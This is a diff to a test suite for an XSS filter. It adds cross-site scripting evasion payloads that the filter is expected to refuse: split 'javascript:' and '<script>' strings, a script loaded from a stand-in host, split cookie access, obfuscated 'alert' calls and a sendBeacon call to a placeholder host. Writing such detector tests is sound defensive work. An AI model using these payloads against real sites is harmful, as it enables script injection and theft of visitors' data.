@@ -341,6 +341,69 @@ describe("html family: the tokenizer", () => {
   })
 })
 
+describe("html family: a filtered word cut across joined literals", () => {
+  it.each([
+    "location='jav'+'ascript:alert(1)'",
+    "x='<scr'+'ipt>'+y",
+    "document.write(\"<scr\" + \"ipt src=//e.vil></scr\" + \"ipt>\")",
+    "top['al' + 'ert'](1)",
+    "el.src = 'java' + 'script:void(0)'",
+    "';w=window;w['docu'+'ment']['coo'+'kie'];//"
+  ])("is written to pass a filter: %s", (value) => {
+    expect(refused(value), value).toBe(true)
+  })
+
+  it.each([
+    "'Hello, ' + name + '!'",
+    "\"foo\" + \"bar\" = \"foobar\"",
+    "it's 'java' + 'script' really",
+    "'Warning: ' + 'alert level ' + n",
+    "msg = 'Critical ' + 'alert: ' + text",
+    "I'll say ' + 'later', she wrote"
+  ])("passes literals that keep their words whole: %s", (value) => {
+    expect(refused(value), value).toBe(false)
+  })
+})
+
+describe("html family: a keyword glued to a global once whitespace is removed", () => {
+  it.each([
+    "return top[/al/.source+/ert/.source](1)",
+    "void self[8680439..toString(30)](1)",
+    "typeof window[/pro/.source+/mpt/.source](1)"
+  ])("still starts a name: %s", (value) => {
+    expect(refused(value), value).toBe(true)
+  })
+
+  it.each(["the desktop[1] (shown)", "stop[/a/.source+/b/.source](1) is a made-up call", "laptop[/x/.source+/y/.source](2) in a note"])(
+    "leaves words that only end in a global's name: %s",
+    (value) => {
+      expect(refused(value), value).toBe(false)
+    }
+  )
+})
+
+describe("html family: one call of a browser API that acts on the visitor", () => {
+  it.each([
+    "navigator.vibrate(500)",
+    "navigator.vibrate([200, 100, 200]);",
+    "\";navigator.sendBeacon('//x.example', 1);//",
+    "window.navigator.geolocation.getCurrentPosition(send)",
+    "navigator.mediaDevices.getUserMedia({video:true})"
+  ])("is what a probe injects: %s", (value) => {
+    expect(refused(value), value).toBe(true)
+  })
+
+  it.each([
+    "navigator.clipboard.writeText(text).then(() => done())",
+    "navigator.serviceWorker.register('/sw.js')",
+    "Call navigator.vibrate(500) to buzz the phone",
+    "navigator.userAgent",
+    "if (navigator.share) navigator.share(data)"
+  ])("passes code that goes on and prose: %s", (value) => {
+    expect(refused(value), value).toBe(false)
+  })
+})
+
 describe("html family: catalogue and cost", () => {
   it("documents every rule with a stable id, the xss category and a score", () => {
     const ids = family.rules.map((r) => r.id)
@@ -377,6 +440,8 @@ describe("html family: catalogue and cost", () => {
     ["globals indexed by pieces that never close", "top[a+"],
     ["globals indexed by a plus alone", "top[+"],
     ["sinks handed to calls", ".map(alert)"],
+    ["joined literals", "'al'+"],
+    ["quotes that never close", "'\"+"],
     ["UTF-7 runs", "+ADw-"]
   ])("takes time linear in the value's length on repeated %s", (_, fragment) => {
     const of = (size: number) => fragment.repeat(Math.ceil(size / fragment.length)).slice(0, size)
